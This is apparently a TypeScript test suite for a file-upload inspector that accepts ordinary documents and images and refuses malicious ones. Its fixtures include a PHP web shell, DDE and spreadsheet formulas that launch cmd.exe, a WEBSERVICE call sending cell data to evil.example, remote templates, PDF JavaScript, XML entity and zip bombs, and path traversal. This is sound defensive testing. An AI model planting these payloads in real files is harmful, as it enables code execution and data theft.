import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Refusal } from '../../refusal.ts';
import {
  contentTypes,
  docx,
  jpeg,
  objectStream,
  packedStream,
  paragraph,
  pdf,
  pdfOfPages,
  png,
  pngChunk,
  relation,
  relations,
  xlsx,
} from '../testing/samples.ts';
import { pptx } from '../testing/slides.ts';
import { zip } from '../testing/zip.ts';
import { type Inspected, inspect } from './inspect.ts';

const all: ReadonlySet<string> = new Set([
  'application/pdf',
  'image/jpeg',
  'image/png',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  'application/vnd.openxmlformats-officedocument.presentationml.presentation',
  'text/plain',
  'text/csv',
  'text/html',
]);

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'mt-inspect-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

let count = 0;
async function look(bytes: Buffer, name: string, allowed = all): Promise<Inspected> {
  count += 1;
  const path = join(folder, String(count));
  await writeFile(path, bytes);
  try {
    return await inspect(path, { name, allowed });
  } finally {
    await rm(path);
  }
}
const verdict = (bytes: Buffer, name: string): Promise<string> =>
  look(bytes, name).then(
    ({ mediaType }) => mediaType,
    (error: unknown) => (error instanceof Refusal ? error.code : `a bug: ${error}`),
  );

describe('what people really send is taken as what it is', () => {
  test.each([
    ['a letter', docx(), 'a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    [
      'a sheet',
      xlsx(['SUM(A1:A3)', 'IF(A1="a|b",1,2)']),
      'a.xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ],
    ['a PDF that opens at its first page', pdf(), 'a.PDF', 'application/pdf'],
    ['a PDF of a thousand pages', pdfOfPages(Array(1000).fill('page')), 'a.pdf', 'application/pdf'],
    [
      'a PDF with packed objects',
      pdf([objectStream('<< /S /URI /URI (https://www.gov.cn) >>', '[1 2]')]),
      'a.pdf',
      'application/pdf',
    ],
    [
      'a PDF with an object stream that is not packed',
      pdf(['<< /Type /ObjStm /N 1 /First 5 /Length 12 >>\nstream\n10 0 << /A 1 >>\nendstream']),
      'a.pdf',
      'application/pdf',
    ],
    ['a photograph', jpeg(4000, 3000), 'a.jpeg', 'image/jpeg'],
    ['a picture', png(2000, 2000, [pngChunk('tEXt', Buffer.from('Comment\0<?php'))]), 'a.png', 'image/png'],
    ['a text', Buffer.from(`${'字'.repeat(5000)}\r\n`), 'a.txt', 'text/plain'],
    [
      'slides',
      pptx([{ title: '通报', lines: ['一'], notes: '先讲这个', comment: '改' }]),
      'a.pptx',
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    ],
    [
      'a page with data for programs',
      Buffer.from('<!doctype html><script type="application/ld+json">{"a":1}</script><p>one = on = two</p>'),
      'a.htm',
      'text/html',
    ],
    ['a table', Buffer.from('姓名,金额\n"a|b",-5\n'), 'a.csv', 'text/csv'],
    [
      'a letter with two kinds of strokes in its fields',
      docx([
        {
          name: 'word/document.xml',
          bytes: paragraph('<w:r><w:instrText> HYPERLINK "https://a.cn" </w:instrText></w:r>'),
        },
      ]),
      'a.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
  ])('%s', async (_what, bytes, name, mediaType) => {
    expect(await look(bytes, name)).toEqual({ mediaType, end: bytes.length });
  });
});

describe('what stands behind a picture is cut off', () => {
  test.each([
    ['an archive', jpeg(), 'a.jpg', zip([{ name: 'x.js', bytes: 'alert(1)' }])],
    ['a program', jpeg(), 'a.jpg', Buffer.from('<?php system($_GET[0]); ?>')],
    ['a film of a telephone', jpeg(), 'a.jpg', Buffer.from('\0\0\0\u0018ftypmp42')],
    ['an archive behind a PNG', png(), 'a.png', zip([{ name: 'x.js', bytes: 'alert(1)' }])],
  ])('%s', async (_what, picture, name, more) => {
    expect((await look(Buffer.concat([picture, more]), name)).end).toBe(picture.length);
  });
});

const word = (inner: string) => docx([{ name: 'word/document.xml', bytes: paragraph(inner) }]);
const types = (main: string, more = '') => docx([{ name: '[Content_Types].xml', bytes: contentTypes(main, more) }]);
const rels = (...all: readonly string[]) => docx([{ name: 'word/_rels/document.xml.rels', bytes: relations(...all) }]);
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const gif = Buffer.from('GIF89a=1;alert(1)//\u0000\u0000', 'latin1');
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const LOLS = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>';
const zeros = deflateRawSync(Buffer.alloc(64 * 1_048_576));

describe('what means harm is refused', () => {
  test.each([
    ['GIF that is a script', gif, 'a.png', 'files/type-not-allowed'],
    ['GIF that is a script, by its ending', gif, 'a.pdf.js', 'files/type-not-allowed'],
    [
      'page with a PDF in it',
      Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdf()]),
      'a.pdf',
      'files/type-not-allowed',
    ],
    [
      'PDF behind a byte order mark',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdf()]),
      'a.pdf',
      'files/mislabelled',
    ],
    [
      'SVG with a script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
      'a.svg',
      'files/type-not-allowed',
    ],
    [
      'SVG called a text',
      Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
      'a.txt',
      'files/type-not-allowed',
    ],
    [
      'text with a NUL far behind',
      Buffer.concat([Buffer.from('字'.repeat(4000)), Buffer.of(0)]),
      'a.txt',
      'files/type-not-allowed',
    ],
    ['text in GBK', Buffer.from('b2e2cad4', 'hex'), 'a.txt', 'files/type-not-allowed'],
    ['table that calls a program', Buffer.from("a,b\n1,=cmd|'/c calc'!A0\n"), 'a.csv', 'files/active-content'],
    ['archive', zip([{ name: 'a.txt', bytes: 'x' }]), 'a.docx', 'files/type-not-allowed'],
    [
      'document with a password',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]),
      'a.docx',
      'files/encrypted',
    ],

    [
      'PDF that is an archive too',
      Buffer.concat([pdf(), zip([{ name: 'x', bytes: 'x' }])]),
      'a.pdf',
      'files/two-in-one',
    ],
    [
      'PDF with a page behind it',
      Buffer.concat([pdf(), Buffer.from('<script>1</script>')]),
      'a.pdf',
      'files/two-in-one',
    ],
    ['PDF that was cut off', pdf().subarray(0, -8), 'a.pdf', 'files/broken'],
    ['PDF with JavaScript', pdf(['<< /S /JavaScript /JS (app.alert(1)) >>']), 'a.pdf', 'files/active-content'],
    ['PDF with JavaScript by numbers', pdf(['<< /S /J#61va#53cript /JS (1) >>']), 'a.pdf', 'files/active-content'],
    [
      'PDF with packed JavaScript',
      pdf([objectStream('<< /A 1 >>', '<< /S /JavaScript /JS (1) >>')]),
      'a.pdf',
      'files/active-content',
    ],
    [
      'PDF with packed JavaScript that says not what it is',
      pdf([packedStream('/N 1 /First 5 ', '10 0 << /S /JavaScript /JS (1) >>')]),
      'a.pdf',
      'files/active-content',
    ],
    [
      'PDF with packed JavaScript within a comment',
      pdf([
        Buffer.concat([Buffer.from('<< >> % '), packedStream('/N 1 /First 5 ', '10 0 << /S /JavaScript /JS (1) >>')]),
      ]),
      'a.pdf',
      'files/active-content',
    ],
    ['PDF that starts a program', pdf(['<< /S /Launch /F (calc.exe) >>']), 'a.pdf', 'files/active-content'],
    ['PDF with a form of its own kind', pdf(['<< /AcroForm << /XFA 9 0 R >> >>']), 'a.pdf', 'files/active-content'],
    [
      'PDF with a file in it',
      pdf(['<< /Names << /EmbeddedFiles 9 0 R >> >>', packedStream('/Type /EmbeddedFile ', 'MZ')]),
      'a.pdf',
      'files/embedded-files',
    ],
    ['PDF that opens another', pdf(['<< /S /GoToR /F (\\\\\\\\host\\\\share) >>']), 'a.pdf', 'files/external-content'],
    ['PDF with a password', pdf(['<< /Filter /Standard >>'], '/Encrypt 5 0 R '), 'a.pdf', 'files/encrypted'],
    [
      'PDF whose objects are packed in a rare way',
      pdf(['<< /Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode >>\nstream\n31302030>\nendstream']),
      'a.pdf',
      'files/pdf-unusual',
    ],
    [
      'PDF whose objects are packed twice',
      pdf([packedStream('/Type /ObjStm /N 1 /First 5 ', deflateSync('10 0 << /S /JavaScript >>'))]),
      'a.pdf',
      'files/pdf-unusual',
    ],
    [
      'PDF that shows other objects than it has',
      pdf([
        Buffer.concat([
          Buffer.from(
            '<< /Type /ObjStm /X (stream\n1 0 2 0 ) /Filter /ASCIIHexDecode >>\nstream\n31302030>\nendstream',
          ),
        ]),
      ]),
      'a.pdf',
      'files/pdf-unusual',
    ],
    [
      'PDF whose objects do not end',
      pdf([
        packedStream(
          '/Type /ObjStm /N 1 /First 5 ',
          Buffer.concat([Buffer.from('10 0 '), Buffer.alloc(70 * 1_048_576, 0x20)]),
        ),
      ]),
      'a.pdf',
      'files/archive-bomb',
    ],

    ['photograph that was cut off', jpeg().subarray(0, -2), 'a.jpg', 'files/broken'],
    [
      'photograph of nothing',
      Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
      'a.jpg',
      'files/broken',
    ],
    ['photograph that unpacks to gigabytes', jpeg(65_000, 65_000), 'a.jpg', 'files/picture-too-large'],
    ['picture that unpacks to gigabytes', png(100_000, 100_000), 'a.png', 'files/picture-too-large'],
    ['picture of no size', png(0, 10), 'a.png', 'files/broken'],
    [
      'picture whose chunk is longer than the file',
      png(1, 1, [pngChunk('tEXt', Buffer.alloc(10)).fill(0x7f, 0, 4)]),
      'a.png',
      'files/broken',
    ],

    ['letter with macros', docx([{ name: 'word/vbaProject.bin', bytes: 'x' }]), 'a.docx', 'files/has-macros'],
    [
      'letter with macros by its type',
      types(
        MAIN.replace(
          'openxmlformats-officedocument.wordprocessingml.document.main',
          'ms-word.document.macroEnabled.main',
        ),
      ),
      'a.docx',
      'files/has-macros',
    ],
    [
      'letter with macros elsewhere',
      types(MAIN, '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
      'a.docx',
      'files/has-macros',
    ],
    ['template', types(MAIN.replace('document.main', 'template.main')), 'a.docx', 'files/type-not-allowed'],
    [
      'letter that is a sheet too',
      types(
        MAIN,
        '<Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
      ),
      'a.docx',
      'files/two-in-one',
    ],
    ['page with a script', Buffer.from('<p>a</p><script>x()</script>'), 'a.html', 'files/active-content'],
    [
      'page whose script says it is none',
      Buffer.from('<script data-type="application/json" src=x></script>'),
      'a.html',
      'files/active-content',
    ],
    [
      'page whose script is two kinds',
      Buffer.from('<script type=module type="application/json">x()</script>'),
      'a.html',
      'files/active-content',
    ],
    [
      'page whose script says so within quotes',
      Buffer.from('<script data-x=" type=application/json " src=x></script>'),
      'a.html',
      'files/active-content',
    ],
    ['page of beginnings of scripts', Buffer.from('<script'.repeat(400_000)), 'a.html', 'files/active-content'],
    ['page that acts when touched', Buffer.from('<p\nonmouseover=x()>a</p>'), 'a.html', 'files/active-content'],
    [
      'page with a hidden call',
      Buffer.from('<a href=" java&#x73;cript&colon;x()">a</a>'),
      'a.html',
      'files/active-content',
    ],
    ['page around another', Buffer.from('<iframe src="//evil.example"></iframe>'), 'a.html', 'files/active-content'],
    [
      'page that leads away',
      Buffer.from('<meta content="0;url=//evil.example" http-equiv="refresh">'),
      'a.html',
      'files/active-content',
    ],
    ['text called a page', Buffer.from('12 > 3'), 'a.html', 'files/type-not-allowed'],
    ['page in bytes that are no text', Buffer.from('3c703eff3c2f703e', 'hex'), 'a.html', 'files/type-not-allowed'],
    [
      'slides that run a program',
      pptx([{ more: '<p:sp><a:hlinkClick xmlns:a="a" action="ppaction://program?x"/></p:sp>' }]),
      'a.pptx',
      'files/active-content',
    ],
    ['slides called a letter', pptx([{ title: 'a' }]), 'a.docx', 'files/mislabelled'],
    ['sheet called a letter', xlsx(), 'a.docx', 'files/mislabelled'],
    [
      'letter with a template from elsewhere',
      rels(relation('attachedTemplate', 'http://evil.example/t.dotm', 'External')),
      'a.docx',
      'files/external-content',
    ],
    [
      'letter with a template written by numbers',
      rels(relation('attachedTemplate', 'http://evil.example/t', '&#69;xternal')),
      'a.docx',
      'files/external-content',
    ],
    [
      'letter with a picture from elsewhere',
      rels(relation('image', '\\\\host\\share\\a.png', 'External')),
      'a.docx',
      'files/external-content',
    ],
    [
      'letter with a link to a program',
      rels(relation('hyperlink', 'ms-msdt:/id', 'External')),
      'a.docx',
      'files/external-content',
    ],
    ['letter with an object', rels(relation('oleObject', 'embeddings/o.bin')), 'a.docx', 'files/embedded-files'],
    [
      'letter with an old office file',
      docx([{ name: 'word/media/x.png', bytes: Buffer.from('d0cf11e0a1b11ae100', 'hex') }]),
      'a.docx',
      'files/embedded-files',
    ],
    [
      'letter with an archive in it',
      docx([{ name: 'word/x.dat', bytes: zip([{ name: 'y', bytes: zip([{ name: 'z', bytes: 'z' }]) }]) }]),
      'a.docx',
      'files/embedded-files',
    ],
    [
      'letter that calls a program',
      word('<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'),
      'a.docx',
      'files/active-content',
    ],
    [
      'letter that calls a program in pieces',
      word('<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd </w:instrText></w:r>'),
      'a.docx',
      'files/active-content',
    ],
    [
      'letter that calls a program by numbers',
      word('<w:fldSimple w:instr=" QUOTE 68 68 69 "/>'),
      'a.docx',
      'files/active-content',
    ],
    [
      'letter with a drawing that is a script',
      docx([{ name: 'word/media/i.svg', bytes: '<svg xmlns="x"><s:script xmlns:s="x">1</s:script></svg>' }]),
      'a.docx',
      'files/active-content',
    ],
    ['letter of entities', docx([{ name: 'word/document.xml', bytes: LOLS }]), 'a.docx', 'files/unsafe-xml'],
    [
      'letter of entities in wide letters',
      docx([{ name: 'word/document.xml', bytes: utf16(LOLS) }]),
      'a.docx',
      'files/unsafe-xml',
    ],
    [
      'letter of entities in a part without a name',
      docx([{ name: 'word/extra.dat', bytes: LOLS }]),
      'a.docx',
      'files/unsafe-xml',
    ],
    [
      'letter in a code nobody reads',
      docx([{ name: 'word/document.xml', bytes: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
      'a.docx',
      'files/unsafe-xml',
    ],
    [
      'letter with no bottom',
      docx([{ name: 'word/document.xml', bytes: '<a>'.repeat(5000) }]),
      'a.docx',
      'files/unsafe-xml',
    ],
    [
      'letter with a thousand attributes',
      docx([
        { name: 'word/document.xml', bytes: `<a ${Array.from({ length: 1000 }, (_, i) => `a${i}=""`).join(' ')}/>` },
      ]),
      'a.docx',
      'files/unsafe-xml',
    ],
    ['letter whose XML is none', docx([{ name: 'word/document.xml', bytes: '<a></b>' }]), 'a.docx', 'files/broken'],
    ['sheet that calls a program', xlsx(["cmd|'/c calc'!A0"]), 'a.xlsx', 'files/active-content'],
    [
      'sheet that asks a web site',
      xlsx(['WEBSERVICE("http://evil.example/"&amp;A1)']),
      'a.xlsx',
      'files/active-content',
    ],
    [
      'sheet with links to others',
      xlsx([], [{ name: 'xl/externalLinks/externalLink1.xml', bytes: '<a/>' }]),
      'a.xlsx',
      'files/external-content',
    ],
    [
      'sheet with old macros',
      xlsx([], [{ name: 'xl/macrosheets/sheet1.xml', bytes: '<a/>' }]),
      'a.xlsx',
      'files/has-macros',
    ],

    [
      'letter that unpacks without end',
      docx(
        Array.from({ length: 8 }, (_, i) => ({
          name: `word/${i}.bin`,
          bytes: Buffer.alloc(64 * 1_048_576),
          packed: zeros,
        })),
      ),
      'a.docx',
      'files/archive-bomb',
    ],
    [
      'letter that unpacks without end and denies it',
      docx([{ name: 'word/0.bin', bytes: Buffer.alloc(0), packed: zeros, says: { size: 1000 } }]),
      'a.docx',
      'files/broken',
    ],
    [
      'letter of too many parts',
      docx(Array.from({ length: 2100 }, (_, i) => ({ name: `word/${i}.txt`, bytes: '', stored: true }))),
      'a.docx',
      'files/archive-bomb',
    ],
    ['letter whose parts lie in one place', docx([], { overlaid: 3 }), 'a.docx', 'files/unsafe-archive'],
    ['letter with a way out', docx([{ name: '../../etc/cron.d/x', bytes: 'x' }]), 'a.docx', 'files/broken'],
    ['letter with a drive', docx([{ name: 'C:/x', bytes: 'x' }]), 'a.docx', 'files/broken'],
    [
      'letter with a name that cannot be seen',
      docx([{ name: 'word/a\u202Eb', bytes: 'x' }]),
      'a.docx',
      'files/unsafe-archive',
    ],
    [
      'letter with a part twice',
      docx([
        { name: 'word/a.txt', bytes: '1' },
        { name: 'word/A.txt', bytes: '2' },
      ]),
      'a.docx',
      'files/unsafe-archive',
    ],
    [
      'letter whose list says other names',
      docx([{ name: 'word/a.txt', bytes: '1', says: { name: 'word/b.txt' } }]),
      'a.docx',
      'files/unsafe-archive',
    ],
    [
      'letter with bytes between its parts',
      docx([], { hidden: Buffer.from('<script>alert(1)</script>hidden') }),
      'a.docx',
      'files/unsafe-archive',
    ],
    ['letter with bytes behind it', docx([], { after: Buffer.from('<script>') }), 'a.docx', 'files/broken'],
  ])('%s', async (_what, bytes, name, code) => {
    expect(await verdict(bytes, name)).toBe(code);
  });
});

test('an archive is not opened where no document may come of it', async () => {
  const allowed = new Set(['image/png']);
  await expect(look(docx(), 'a.docx', allowed)).rejects.toMatchObject({ code: 'files/type-not-allowed' });
});

test('a refusal names the file', async () => {
  await expect(look(pdf(['/JavaScript ']), '表.pdf')).rejects.toMatchObject({ details: { name: '表.pdf' } });
});

test('a part that goes on without a tag is not kept whole', async () => {
  const long = Buffer.from(`<a b="${'x'.repeat(3 * 1_048_576)}"/>`);
  expect(await verdict(docx([{ name: 'word/document.xml', bytes: long, stored: true }]), 'a.docx')).toBe(
    'files/unsafe-xml',
  );
});

test('a document that takes minutes to read is a bomb', async () => {
  const rows = Buffer.from(`<a>${`<b>${'x'.repeat(1_048_576)}</b>`.repeat(17)}</a>`);
  const parts = [{ name: 'word/document.xml', bytes: rows, stored: true as const }];
  expect(await verdict(docx(parts), 'a.docx')).toBe('files/archive-bomb');
});

describe('whatever comes is answered or refused, never a fault', () => {
  const isAnswered = async (bytes: Buffer, name: string): Promise<void> => {
    expect(await verdict(bytes, name)).not.toMatch(/^a bug/u);
  };
  const beginnings = [pdf(), docx(), xlsx(), jpeg(), png()];
  const names = ['a.pdf', 'a.docx', 'a.xlsx', 'a.jpg', 'a.png'] as const;

  test('random bytes behind a true beginning', async () => {
    await fc.assert(
      fc.asyncProperty(fc.nat(4), fc.nat(60), fc.uint8Array({ maxLength: 400 }), async (which, kept, rest) =>
        isAnswered(Buffer.concat([(beginnings[which] ?? pdf()).subarray(0, kept), rest]), names[which] ?? 'a.pdf'),
      ),
      { numRuns: 300 },
    );
  });

  test('true files with bytes changed, taken out and put in', async () => {
    const edit = fc.record({ at: fc.nat(), to: fc.uint8Array({ maxLength: 8 }), cut: fc.nat(8) });
    await fc.assert(
      fc.asyncProperty(fc.nat(4), fc.array(edit, { minLength: 1, maxLength: 6 }), async (which, edits) => {
        let bytes = beginnings[which] ?? pdf();
        for (const { at, to, cut } of edits) {
          const place = at % bytes.length;
          bytes = Buffer.concat([bytes.subarray(0, place), to, bytes.subarray(place + cut)]);
        }
        await isAnswered(bytes, names[which] ?? 'a.pdf');
      }),
      { numRuns: 600 },
    );
  });

  test('parts of a document that are anything at all', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('word/document.xml', '[Content_Types].xml', '_rels/.rels', 'x.bin'),
        fc.oneof(
          fc.uint8Array({ maxLength: 300 }),
          fc
            .string({ unit: 'binary', maxLength: 200 })
            .map((text) => new TextEncoder().encode(`<a b="${text}">${text}</a>`)),
        ),
        async (name, bytes) => isAnswered(docx([{ name, bytes: Buffer.from(bytes) }]), 'a.docx'),
      ),
      { numRuns: 100 },
    );
  });
});
